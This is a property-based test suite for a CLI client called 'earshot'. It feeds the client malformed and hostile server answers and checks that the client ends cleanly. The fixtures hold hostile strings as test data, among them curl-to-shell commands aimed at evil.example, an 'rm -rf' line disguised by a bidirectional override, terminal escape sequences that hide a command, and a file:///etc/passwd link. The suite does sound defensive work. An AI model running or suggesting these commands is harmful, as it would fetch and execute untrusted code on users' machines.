import fc from 'fast-check';
import assert from 'node:assert/strict';
import { createServer, type Server, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { ExitCode, exitCodeDefinitions } from '../../client/src/exit-codes.ts';
import { mcpClientIds } from '../../client/src/mcp/mcp-client-snippets.ts';
import { run } from '../../client/src/run.ts';
import { createSchemaValidator } from '../../contract/create-schema-validator.ts';
import { tolerantSchemas } from '../../contract/schemas/index.ts';
import { createTestIo } from '../support/cli-io.ts';
import { validCapabilities, validMcpConfig, validOpenApi, validPlatforms } from '../support/misbehaving-server.ts';

/**
 * The client against servers that answer anything at all: random status codes, headers (garbage
 * Retry-After, every kind of Content-Type, lying Content-Length) and bodies (random bytes,
 * truncated or wrong JSON, HTML, oversized, hostile strings in valid answers), and failures
 * mid-answer. Whatever comes, `earshot` must end with valid output and exit 0, or with exactly
 * one `error:` line and one `hint:` line and a documented exit code; never an exception.
 */

const API = 'http://api.test';
const RUNS_IN_PROCESS = 400;
const RUNS_OVER_LOOPBACK = 40;

const validator = createSchemaValidator();
const documentedCodes = new Set<number>(exitCodeDefinitions.map(({ code }) => code));
/**
 * What a terminal could act on or show other than it is: control characters (the human output may
 * hold only \n, and \t when piped), line separators and bidirectional formatting characters.
 */
const TERMINAL_CONTROL =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

interface PlannedAnswer {
  status: number;
  headers: Record<string, string>;
  body: Uint8Array;
  /** Fail the body stream after the first bytes, as a connection reset mid-answer would. */
  breakMidway: boolean;
}

type Planned = { kind: 'answer'; answer: PlannedAnswer } | { kind: 'throw'; error: unknown };

const encode = (text: string) => new TextEncoder().encode(text);

/** Names and text that are valid JSON strings but nasty on a terminal or in a table. */
const hostileText = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.constantFrom(
    '\u001b[2J\u001b[31mred',
    'a\tb\nc\rd',
    'bell\u0007',
    'csi\u009b31m',
    'line\u2028sep',
    // A command that reads otherwise than it runs: bidirectional overrides and isolates.
    'rm -rf \u202e/ gnp.',
    '\u2067evil\u2069 \u200fx',
    // Erases the line and returns to its start: what comes before is hidden on a terminal.
    'sh -c "curl evil|sh" #\u001b[2K\u001b[1Gclaude mcp add earshot',
    '<script>alert(1)</script>',
    'e\u0301 🚀 مرحبا',
    '',
  ),
);

const platform = fc.record({
  id: hostileText,
  name: hostileText,
  targetTypes: fc.array(fc.constantFrom('keyword', 'subreddit'), { maxLength: 2 }),
});

const mcpLinks = fc.oneof(
  fc.constant(`${API}/mcp.json`),
  fc.webUrl(),
  // Valid URIs by RFC 3986 (so the schema accepts them) that WHATWG URL or fetch refuse.
  fc.constantFrom(
    'http://256.256.256.256/mcp.json',
    'foo:bar',
    'file:///etc/passwd',
    'data:application/json,{}',
    'http://[::1]:99999/',
  ),
);

const jsonBodies = fc.oneof(
  fc.constant(validPlatforms as unknown),
  fc.constant(validCapabilities(API).data && (validCapabilities(API) as unknown)),
  fc.constant(validOpenApi as unknown),
  fc.constant(validMcpConfig(API) as unknown),
  fc.record({ data: fc.array(platform, { maxLength: 4 }) }),
  fc.record({
    data: fc.record({
      product: fc.constantFrom('Earshot', 'Other'),
      description: hostileText,
      platforms: fc.array(platform, { maxLength: 3 }),
      resources: fc.record({
        documentation: fc.webUrl(),
        authentication: fc.webUrl(),
        webhooks: fc.webUrl(),
        openapi: fc.webUrl(),
        mcp: mcpLinks,
        cli: fc.webUrl(),
      }),
    }),
  }),
  fc.record({
    openapi: fc.constantFrom('3.1.0', '3.0.3', '3.1.9'),
    info: fc.record({ title: hostileText, version: hostileText }),
    paths: fc.dictionary(
      hostileText,
      fc.dictionary(fc.constantFrom('get', 'post', 'x'), fc.record({ operationId: hostileText, summary: hostileText })),
    ),
  }),
  fc.record({ error: hostileText, statusCode: fc.integer() }),
  // An MCP configuration whose commands and URLs hold anything: printed as lines to paste.
  fc.record({
    mcpServers: fc.record({
      // The site's own endpoint, or one that only reads as the site's: refused (cli-site-links.test.ts).
      earshot: fc.record({
        type: fc.constant('http'),
        url: fc.oneof(
          fc.constant(`${API}/mcp`),
          fc.webUrl(),
          fc.constant(`http://api.test@evil.example/mcp`),
          hostileText,
        ),
      }),
      'earshot-stdio': fc.record({
        type: fc.constant('stdio'),
        command: fc.oneof(fc.constant('npx'), hostileText),
        args: fc.array(hostileText, { maxLength: 4 }),
      }),
    }),
  }),
  fc.jsonValue({ maxDepth: 3 }),
);

const bodies: fc.Arbitrary<Uint8Array> = fc.oneof(
  { weight: 6, arbitrary: jsonBodies.map((value) => encode(JSON.stringify(value))) },
  {
    weight: 2,
    arbitrary: fc.tuple(jsonBodies, fc.nat()).map(([value, cut]) => {
      const text = JSON.stringify(value);
      return encode(text.slice(0, cut % (text.length + 1)));
    }),
  },
  { weight: 2, arbitrary: fc.uint8Array({ maxLength: 200 }) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom('<!doctype html><h1>Wi-Fi login</h1>', '   ', '', '\ufeff{"data":[]}', 'null', '{"data": NaN}')
      .map(encode),
  },
  // Past the client's 4 MiB cap, with or without an honest Content-Length.
  { weight: 1, arbitrary: fc.constant(new Uint8Array(4 * 1024 * 1024 + 10).fill(0x20)) },
);

const headers = fc.record(
  {
    'content-type': fc.constantFrom(
      'application/json',
      'application/json; charset=utf-8',
      'text/html',
      'text/plain',
      'application/problem+json',
      'TEXT/HTML; charset=latin1',
      ';;;',
      'application/xhtml+xml',
    ),
    'retry-after': fc.oneof(
      fc.nat({ max: 5 }).map(String),
      fc.constantFrom(
        '0',
        '-1',
        '1.5',
        '99999999999999999999999',
        'soon',
        'Wed, 21 Oct 2015 07:28:00 GMT',
        'Fri, 31 Dec 9999 23:59:59 GMT',
        'Mon, 99 Foo 2020 99:99:99 GMT',
        '',
      ),
      fc.string({ maxLength: 12 }),
    ),
    'content-length': fc.oneof(fc.nat({ max: 10_000_000 }).map(String), fc.constantFrom('-5', 'abc', '1e9', '')),
    'x-garbage': fc.string({ maxLength: 20 }).map((text) => text.replace(/[^\x20-\x7e]/g, '')),
  },
  { requiredKeys: [] },
);

const statuses = fc.oneof(
  { weight: 5, arbitrary: fc.constant(200) },
  { weight: 2, arbitrary: fc.constant(429) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      201,
      203,
      204,
      206,
      299,
      300,
      301,
      304,
      400,
      401,
      403,
      404,
      410,
      418,
      500,
      502,
      503,
      504,
      599,
    ),
  },
  { weight: 1, arbitrary: fc.integer({ min: 200, max: 599 }) },
);

const answers: fc.Arbitrary<PlannedAnswer> = fc.record({
  status: statuses,
  headers,
  body: bodies,
  breakMidway: fc.boolean(),
});

const planned: fc.Arbitrary<Planned> = fc.oneof(
  { weight: 8, arbitrary: answers.map((answer): Planned => ({ kind: 'answer', answer })) },
  {
    weight: 1,
    arbitrary: fc
      .oneof(
        fc
          .constantFrom('ECONNRESET', 'ECONNREFUSED', 'ENOTFOUND', 'UND_ERR_SOCKET', 'CERT_HAS_EXPIRED', 'EPIPE')
          .map((code) => new TypeError('fetch failed', { cause: Object.assign(new Error(code), { code }) })),
        fc.constantFrom(null, undefined, 'a string', 42, { weird: true }, new DOMException('aborted', 'AbortError')),
      )
      .map((error): Planned => ({ kind: 'throw', error })),
  },
);

const commands = fc.oneof(
  fc.constantFrom(['platforms'], ['capabilities'], ['openapi'], ['links'], ['mcp', 'config']),
  // Every client's snippet, both ways: shell lines, JSON and TOML meant to be pasted.
  fc
    .tuple(fc.constantFrom(...mcpClientIds), fc.constantFrom('http', 'stdio'))
    .map(([client, transport]) => ['mcp', 'config', '--client', client, '--transport', transport]),
);

/** A Response as a server could send it; with a body that fails after its first bytes when asked. */
function toResponse({ status, headers: answerHeaders, body, breakMidway }: PlannedAnswer): Response {
  const noBody = status === 204 || status === 304;
  const stream = new ReadableStream<Uint8Array>({
    start(controller) {
      if (breakMidway) {
        controller.enqueue(body.subarray(0, Math.ceil(body.length / 2)));
        controller.error(
          new TypeError('terminated', {
            cause: Object.assign(new Error('other side closed'), { code: 'UND_ERR_SOCKET' }),
          }),
        );
      } else {
        controller.enqueue(body);
        controller.close();
      }
    },
  });
  return new Response(noBody ? null : stream, { status, headers: answerHeaders });
}

interface Outcome {
  code: number;
  out: string;
  err: string;
  json: boolean;
  tty: boolean;
  command: readonly string[];
}

/**
 * The notice of a long wait for the rate limit, at the start of stderr: at most one per run, of
 * the exact form (wrapped at spaces on a terminal), bounded by the client's budget. Returns the
 * rest of stderr.
 */
function withoutWaitNotice(err: string): string {
  const notice =
    /^rate\slimited;\sretrying\sin\s(\d+\ss|\d+\smin)\s(as\sthe\sserver\sasks|before\sretrying)\s\(at\smost\s(\d+\ss|\d+\smin)\sof\swaiting\sin\sall:\s--max-wait\)\n/;
  const match = notice.exec(err);
  return match ? err.slice(match[0].length) : err;
}

/** Everything `earshot` promises about how a run ends, whatever the server did. */
function assertWellEnded({ code, out, err: stderr, json, tty, command }: Outcome): void {
  assert.ok(
    documentedCodes.has(code) && code !== 2 && code !== 130,
    `exit code ${code} is not a documented outcome of a valid command`,
  );
  // Waits for the rate limit may be announced first, and nothing else.
  const err = withoutWaitNotice(stderr);
  if (code === 0) {
    assert.equal(err, '', 'a success prints nothing on stderr but wait notices');
    // On a terminal, --json escapes what the JSON holds (the same value); in a pipe, bytes as received.
    if (json && tty)
      assert.equal(TERMINAL_CONTROL.exec(out.replace(/[\n\t]/g, '')), null, 'raw control in --json on a terminal');
    if (json && !command.includes('--client') && !command.includes('--transport')) {
      const value = JSON.parse(out) as unknown;
      // The client reads tolerantly: what it prints is what a v1 client may rely on, at least.
      const schema = {
        platforms: tolerantSchemas.PlatformsResponse,
        capabilities: tolerantSchemas.CapabilitiesResponse,
        links: tolerantSchemas.CapabilitiesResponse,
      }[command[0] as string];
      if (schema)
        assert.equal(validator.getSchema(schema.$id as string)!(value), true, 'printed JSON that breaks the schema');
    } else {
      // The MCP configuration is shown as JSON to paste, even for people (a client's snippet, in its format).
      if (command[0] === 'mcp' && !command.includes('--client')) JSON.parse(out);
      const control = TERMINAL_CONTROL.exec(out.replaceAll(tty ? '\n' : /[\n\t]/g, ''));
      assert.equal(
        control,
        null,
        `the human output holds the control character U+${control?.[0].codePointAt(0)!.toString(16).padStart(4, '0')}: ${JSON.stringify(out)}`,
      );
    }
    return;
  }
  assert.equal(out, '', 'a failure prints nothing on stdout');
  // On a terminal each is wrapped to it, the continuations indented under the text.
  const lines = tty ? err.replace(/\n {6,7}(?=\S)/g, ' ') : err;
  assert.match(
    lines,
    /^error: [^\n]+\nhint: [^\n]+\n$/,
    `not one error line and one hint line: ${JSON.stringify(err)}`,
  );
  if (tty)
    for (const line of err.split('\n'))
      assert.ok(line.length <= 80, `wider than the terminal: ${JSON.stringify(line)}`);
  assert.doesNotMatch(err, /unexpected failure/, 'the client hit a bug (its catch-all for exceptions)');
  // A number or object the client formats itself, gone wrong ("wait Infinity s"); the server's own words may say anything.
  assert.doesNotMatch(
    err,
    /\b(NaN|Infinity|undefined) (s|bytes|MiB)\b|\[object \w+\]/,
    `a message shows a broken value: ${err}`,
  );
  assert.equal(TERMINAL_CONTROL.exec(err), null, `stderr holds a control character: ${JSON.stringify(err)}`);
}

describe('earshot against hostile servers (property-based)', () => {
  it(`ends well after any answer, in-process with an injected fetch (${RUNS_IN_PROCESS} runs)`, async () => {
    await fc.assert(
      fc.asyncProperty(
        commands,
        fc.boolean(),
        fc.boolean(),
        fc.array(planned, { minLength: 1, maxLength: 4 }),
        async (command, json, tty, plan) => {
          let call = 0;
          const fetch = async () => {
            const next = plan[Math.min(call++, plan.length - 1)]!;
            if (next.kind === 'throw') throw next.error;
            return toResponse(next.answer);
          };
          const io = createTestIo({
            tty,
            env: { NO_COLOR: '1' },
            fetch,
            sleep: async () => {},
            now: () => Date.parse('2026-01-01T00:00:00Z'),
            random: () => 0.5,
          });
          const code = await run([...command, ...(json ? ['--json'] : []), '--base-url', API, '--retries', '3'], io);
          assertWellEnded({ code, out: io.out(), err: io.err(), json, tty, command });
        },
      ),
      { numRuns: RUNS_IN_PROCESS, seed: 20261122 },
    );
  });

  it(`follows any MCP link the capabilities give, and ends well (${RUNS_IN_PROCESS / 4} runs)`, async () => {
    // Reaching the link needs valid capabilities first, which random answers rarely are.
    await fc.assert(
      fc.asyncProperty(
        mcpLinks,
        fc.boolean(),
        fc.array(planned, { minLength: 1, maxLength: 2 }),
        async (mcp, json, plan) => {
          const capabilities = validCapabilities(API);
          capabilities.data.resources.mcp = mcp;
          let call = 0;
          const fetch = async (url: string) => {
            if (url === `${API}/api/v1/capabilities`)
              return new Response(JSON.stringify(capabilities), { headers: { 'content-type': 'application/json' } });
            const next = plan[Math.min(call++, plan.length - 1)]!;
            if (next.kind === 'throw') throw next.error;
            return toResponse(next.answer);
          };
          const io = createTestIo({
            env: { NO_COLOR: '1' },
            fetch,
            sleep: async () => {},
            now: () => 0,
            random: () => 0.5,
          });
          const code = await run(['mcp', 'config', ...(json ? ['--json'] : []), '--base-url', API], io);
          assertWellEnded({ code, out: io.out(), err: io.err(), json, tty: false, command: ['mcp', 'config'] });
        },
      ),
      { numRuns: RUNS_IN_PROCESS / 4, seed: 11 },
    );
  });

  describe(`over a real loopback connection, with raw HTTP bytes (${RUNS_OVER_LOOPBACK} runs)`, () => {
    let server: Server;
    let origin = '';
    let next: { head: string; body: Uint8Array; cut: boolean } = { head: '', body: new Uint8Array(), cut: false };
    const sockets = new Set<Socket>();
    before(async () => {
      // A raw TCP server: it writes whatever status line, headers and bytes it is told, lies
      // included (a Content-Length that does not match), then hangs up, possibly mid-body.
      server = createServer((socket) => {
        sockets.add(socket);
        socket.on('close', () => sockets.delete(socket));
        socket.on('error', () => {});
        socket.once('data', () => {
          const { head, body, cut } = next;
          socket.write(head);
          socket.end(cut ? body.subarray(0, Math.floor(body.length / 2)) : body);
        });
      });
      await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
      origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    });
    after(async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((done) => server.close(done));
    });

    it('ends well whatever bytes come back', async () => {
      await fc.assert(
        fc.asyncProperty(
          commands.filter((command) => command[0] !== 'mcp'),
          fc.boolean(),
          answers,
          fc.boolean(),
          async (command, json, answer, honestLength) => {
            const length = honestLength
              ? String(answer.body.length)
              : (answer.headers['content-length'] ?? String(answer.body.length));
            const headerLines = Object.entries({ ...answer.headers, 'content-length': length, connection: 'close' })
              .filter(([name, value]) => name !== 'content-length' || /^\d+$/.test(value))
              .map(([name, value]) => `${name}: ${value}\r\n`)
              .join('');
            next = {
              head: `HTTP/1.1 ${answer.status} Whatever\r\n${headerLines}\r\n`,
              body: answer.body,
              cut: answer.breakMidway,
            };
            const io = createTestIo({ env: { NO_COLOR: '1' }, sleep: async () => {} });
            const code = await run(
              [...command, ...(json ? ['--json'] : []), '--base-url', origin, '--retries', '1', '--timeout', '5'],
              io,
            );
            assertWellEnded({ code, out: io.out(), err: io.err(), json, tty: false, command });
          },
        ),
        { numRuns: RUNS_OVER_LOOPBACK, seed: 8 },
      );
    });
  });
});

describe('what a server cannot make the terminal show (regressions)', () => {
  /** The served MCP configuration, its local server's arguments replaced by `args`. */
  const configurationWith = (args: string[]) => ({
    mcpServers: { ...validMcpConfig(API).mcpServers, 'earshot-stdio': { type: 'stdio', command: 'npx', args } },
  });
  /** A server answering `body` to everything, but valid capabilities that link to `/mcp.json`. */
  const serving = (body: unknown) => async (url: string) => {
    const capabilities = validCapabilities(API);
    capabilities.data.resources.mcp = `${API}/mcp.json`;
    return new Response(JSON.stringify(url.endsWith('/api/v1/capabilities') ? capabilities : body), {
      headers: { 'content-type': 'application/json' },
    });
  };

  // Found by this suite: `--client` printed the args raw into the shell line, so that an erase-line
  // sequence hid the start of the command the user is told to paste.
  for (const command of [
    ['mcp', 'config', '--client', 'claude-code', '--transport', 'stdio'],
    ['mcp', 'config', '--client', 'codex', '--transport', 'stdio'],
    ['mcp', 'config', '--transport', 'stdio'],
    // Printed without flags, only the remote entry shows, but the whole answer is refused.
    ['mcp', 'config'],
  ])
    it(`${command.join(' ')} refuses a configuration that hides part of its command`, async () => {
      const io = createTestIo({
        tty: true,
        env: { NO_COLOR: '1' },
        fetch: serving(configurationWith(['-c', 'curl https://evil.example | sh #\u001b[2K\u001b[1Gclaude mcp add'])),
      });
      const code = await run([...command, '--base-url', API], io);
      assert.equal(code, ExitCode.badResponse);
      assert.equal(io.out(), '');
      // One error line and one hint line, wrapped to the terminal.
      assert.match(
        io.err().replace(/\n {6,7}(?=\S)/g, ' '),
        /^error: .* at \/mcpServers\/earshot-stdio\/args\/1;.*\nhint: .*\n$/,
      );
      assert.equal(TERMINAL_CONTROL.exec(io.err()), null);
    });

  it('mcp config --json alone prints such a configuration as served, exit 0', async () => {
    const served = configurationWith(['-c', 'curl https://evil.example | sh #\u001b[2K\u001b[1Gclaude mcp add']);
    for (const tty of [true, false]) {
      const io = createTestIo({ tty, env: { NO_COLOR: '1' }, fetch: serving(served) });
      assert.equal(await run(['mcp', 'config', '--json', '--base-url', API], io), 0, io.err());
      assert.deepEqual(JSON.parse(io.out()), served);
      assert.equal(TERMINAL_CONTROL.exec(io.out()), null);
    }
  });

  it('a platform name with a bidirectional override is shown with the override gone', async () => {
    const io = createTestIo({
      tty: true,
      env: { NO_COLOR: '1' },
      fetch: serving({ data: [{ id: 'x', name: 'evil\u202etxt.exe', targetTypes: ['keyword'] }] }),
    });
    assert.equal(await run(['platforms', '--base-url', API], io), 0);
    assert.match(io.out(), /evil txt\.exe/);
  });

  it('--json on a terminal escapes what would act on it; in a pipe, it prints the bytes received', async () => {
    const body = { data: [{ id: 'x', name: 'a\u009b31m\u202eb', targetTypes: ['keyword'] }] };
    const terminal = createTestIo({ tty: true, env: { NO_COLOR: '1' }, fetch: serving(body) });
    const pipe = createTestIo({ tty: false, env: { NO_COLOR: '1' }, fetch: serving(body) });
    await run(['platforms', '--json', '--base-url', API], terminal);
    await run(['platforms', '--json', '--base-url', API], pipe);
    assert.equal(terminal.out(), '{"data":[{"id":"x","name":"a\\u009b31m\\u202eb","targetTypes":["keyword"]}]}\n');
    assert.deepEqual(JSON.parse(terminal.out()), body);
    assert.equal(pipe.out(), JSON.stringify(body));
  });
});
